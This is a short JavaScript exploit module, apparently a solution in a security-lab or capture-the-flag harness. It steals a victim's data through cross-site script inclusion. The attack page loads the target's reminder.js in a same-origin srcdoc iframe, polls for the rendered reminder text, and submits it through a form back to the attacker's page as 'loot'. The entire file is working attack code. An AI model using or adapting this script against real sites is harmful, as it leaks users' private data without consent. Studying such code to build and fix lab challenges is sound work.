import { exploit } from '#attack';

/** The script runs in a frame, and the page around it watches until a text appears. A form brings it home. */
export default exploit(async ({ target, visit }) => {
  const script = `${target.url}/reminder.js`;
  const loot = await visit(`
    <iframe srcdoc='<div id="reminder"></div><script src="${script}"></script>'></iframe>
    <form method="post" action="/"><input name="note"></form>
    <script>
      const timer = setInterval(() => {
        const note = frames[0].document.querySelector('#reminder')?.textContent ?? '';
        if (note === '') return;
        clearInterval(timer);
        document.forms[0].note.value = note;
        document.forms[0].submit();
      }, 20);
    </script>`);
  return loot === undefined ? undefined : (new URLSearchParams(loot).get('note') ?? undefined);
});
